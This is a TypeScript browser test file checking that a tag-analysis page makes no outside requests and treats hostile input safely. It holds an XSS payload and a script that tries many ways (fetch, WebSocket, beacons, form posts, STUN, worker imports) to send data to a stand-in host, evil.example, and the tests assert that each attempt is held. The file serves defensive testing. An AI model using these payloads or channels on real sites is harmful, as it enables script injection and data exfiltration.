/** The page in a real browser: it asks nobody for anything, bears whatever it is given, and never hangs. */
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { root } from '../../scripts/generate/index.ts';
import { PARTS } from '../../src/browser/protocol.ts';
import { findChromium } from '../oracle/chromium.ts';
import { openBrowser } from '../oracle/visit.ts';
import { builtPage, choose, type Opened, openPage, settled, textField } from './page.ts';

const chromium = findChromium();
const example = (path: string): string => readFileSync(join(root, 'examples/bad', path), 'utf8');
const OWN = new Set(['', 'page.css', 'page.js', 'editor.js', ...PARTS.map((part) => `${part}.js`)]);

const EVIL =
  '"><img src="https://evil.example/i" onerror="top.harmed=1"><script>top.harmed=1;fetch("https://evil.example/f")</script>';
const LONG = 'x'.repeat(10_000);

/** Everything with which a page or its worker can send something; the result tells of each that it failed. */
const ATTEMPTS = `(async () => {
  const url = 'https://evil.example/';
  const fails = (attempt) => Promise.resolve().then(attempt).then(() => 'sent', () => 'held');
  const event = (target, bad, good) => new Promise((resolve, reject) => {
    target.addEventListener(bad, reject);
    target.addEventListener(good, resolve);
  });
  const added = (name, attributes, bad = 'error') => {
    const element = Object.assign(document.createElement(name), attributes);
    document.head.append(element);
    return event(element, bad, 'load');
  };
  const worker = (code) => new Promise((resolve, reject) => {
    const started = new Worker(URL.createObjectURL(new Blob([code])));
    started.onmessage = ({ data }) => (data === 'sent' ? resolve() : reject());
  });
  const submitted = (action) => new Promise((resolve, reject) => {
    const form = Object.assign(document.createElement('form'), { action, method: 'post', target: '_top' });
    document.body.append(form);
    document.addEventListener('securitypolicyviolation', reject, { once: true });
    form.submit();
    setTimeout(resolve, 5000);
  });
  /** Whether a server of that kind was asked for the address of this machine. */
  const reached = async (urls) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
    connection.createDataChannel('x');
    const gathered = new Promise((resolve, reject) => {
      connection.onicecandidate = ({ candidate }) => {
        if (!candidate) reject();
        else if (candidate.type === 'srflx') resolve();
      };
      setTimeout(reject, 5000);
    });
    await connection.setLocalDescription(await connection.createOffer());
    await gathered;
  };
  navigator.sendBeacon(url, 'x');
  return Promise.all([
    () => fetch(url),
    () => fetch('page.js'),
    () => event(new WebSocket('wss://evil.example/'), 'error', 'open'),
    () => event(new EventSource(url), 'error', 'open'),
    () => event(Object.assign(new Image(), { src: url }), 'error', 'load'),
    () => added('script', { src: url }),
    () => added('link', { rel: 'stylesheet', href: url }),
    () => added('link', { rel: 'prefetch', href: url }),
    () => added('link', { rel: 'modulepreload', href: url }),
    () => event(Object.assign(document.createElement('video'), { src: url }), 'error', 'loadeddata'),
    () => submitted(url),
    () => navigator.serviceWorker.register('page.js'),
    () => reached('stun:evil.example:3478'),
    () => worker("fetch('" + url + "').then(() => postMessage('sent'), () => postMessage('held'))"),
    () => worker("try { importScripts('" + url + "'); postMessage('sent') } catch { postMessage('held') }"),
  ].map(fails));
})()`;

let browser: Browser;
let folder: string;
let opened: Opened;

async function open(options: Parameters<typeof openPage>[2] = {}): Promise<Page> {
  opened = await openPage(browser, folder, options);
  return opened.page;
}

/** A container in which every name is hostile. */
function hostileContainer(): string {
  const name = `</script>${EVIL}\u202e${LONG}`;
  return example('gtm-container.json').replaceAll('"Meta Pixel - Alla sidor"', JSON.stringify(name));
}

describe.skipIf(chromium === undefined)('the page, whatever it is given', () => {
  beforeAll(async () => {
    folder = await builtPage();
    browser = await openBrowser(chromium ?? '');
  });
  afterEach(() => opened?.context.close());
  afterAll(async () => {
    await browser?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('asks nobody for anything', async () => {
    const page = await open();
    await choose(page, {
      'gtm-container.json': hostileContainer(),
      [`${encodeURIComponent(EVIL).slice(0, 80)}.html`]: `${EVIL}<link rel="prefetch" href="https://evil.example/p"><iframe src="https://evil.example/frame"></iframe>${example('checkout.html')}`,
      'a.ts': `const a: string = '1'; fbq('init', a); import('https://evil.example/m.js');`,
      'b.html': '<script src="https://cdn.unheard-of.example/a.js"></script>',
    });
    for (const view of ['matrix', 'report']) await page.locator(`#tab-${view}`).click();
    const report = page.frameLocator('iframe.report');
    await report.locator('#verdict').waitFor();
    await report.locator('details').evaluateAll('(all) => { for (const one of all) one.open = true; }');
    await page.waitForTimeout(300);
    expect(opened.requests.filter((one) => !OWN.has(one))).toEqual([]);
    expect(opened.requests).toContain('typescript.js');
    expect(opened.requests).toContain('parties.js');
    expect(await page.evaluate('globalThis.harmed')).toBeUndefined();
    expect(opened.problems).toEqual([]);
  });

  it('could not send anything if it wanted to, nor could its worker', async () => {
    const page = await open({ serviceWorkers: 'allow' });
    const tried = await page.evaluate(ATTEMPTS);
    expect(tried).toEqual(Array(15).fill('held'));
    expect(opened.requests.filter((one) => !OWN.has(one))).toEqual([]);
  });

  it('shows hostile names as what they are', async () => {
    const page = await open();
    await choose(page, { 'gtm-container.json': hostileContainer() });
    await page.locator('#tab-matrix').click();
    expect(await page.locator('.matrix .tag-name').allTextContents()).toContainEqual(
      expect.stringContaining('</script>"><img'),
    );
    expect(await page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBeLessThanOrEqual(0);
    expect(await page.locator('#panel-matrix img, #panel-findings img, #status img').count()).toBe(0);
  });

  it.each([
    ['broken', '#v1.AAAA', 'This link is broken.'],
    ['a later version', '#v9.AAAA', 'another version'],
    ['no link', '#results', ''],
  ])('opens a link that is %s', async (_, fragment, said) => {
    const page = await open({ fragment });
    await page.waitForTimeout(200);
    expect(await page.locator('#link-line').textContent()).toContain(said);
    expect(opened.problems).toEqual([]);
    await textField(page).fill(example('checkout.html'));
    expect(await settled(page)).toMatch(/error/);
  });

  it('stops what takes too long, says so, and goes on', async () => {
    const page = await open({
      init: `
        const Real = Worker;
        globalThis.started = globalThis.ended = globalThis.asked = 0;
        globalThis.Worker = class {
          constructor(...given) {
            started += 1;
            if (started > 1) return new Real(...given);
          }
          postMessage() { asked += 1; }
          terminate() { ended += 1; }
        };
      `,
    });
    await page.clock.install();
    await textField(page).fill(example('checkout.html'));
    await page.clock.runFor(1_000);
    await expect.poll(() => page.evaluate('asked'), { timeout: 30_000 }).toBe(1);
    await page.clock.runFor(61_000);
    await page.locator('.verdict', { hasText: 'Stopped after 60 seconds' }).waitFor();
    expect(await page.evaluate('ended')).toBe(1);
    await page.locator('#sector').selectOption('pharmacy');
    expect(await settled(page)).toMatch(/error/);
  });

  it('says what it went without', async () => {
    const page = await open({ missing: new Set(['typescript.js']) });
    await choose(page, { 'a.ts': "const a: string = '1'; fbq('init', a);" });
    expect(await page.locator('.looked').textContent()).toContain('Judged without the parser for TypeScript');
  });

  it('says that it cannot judge without its rules, and can when they are there again', async () => {
    const missing = new Set(['core.js']);
    const page = await open({ missing });
    await textField(page).fill(example('checkout.html'));
    await page.locator('.looked', { hasText: 'The rules could not be loaded' }).waitFor();
    missing.clear();
    await page.locator('#sector').selectOption('pharmacy');
    expect(await settled(page)).toMatch(/error/);
  });

  it('works as a file on a disk', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const problems: string[] = [];
    page.on('console', (message) => void problems.push(message.text()));
    await page.goto(pathToFileURL(join(folder, 'index.html')).href);
    await textField(page).fill("const a: string = '1'; fbq('init', a); fbq('track', 'PageView');");
    await page.locator('#file-name').fill('a.ts');
    await page.locator('#file-name').press('Enter');
    await settled(page);
    await page.locator('#tab-report').click();
    await page.frameLocator('iframe.report').locator('#verdict').waitFor();
    expect(problems).toEqual([]);
    await context.close();
  });
});
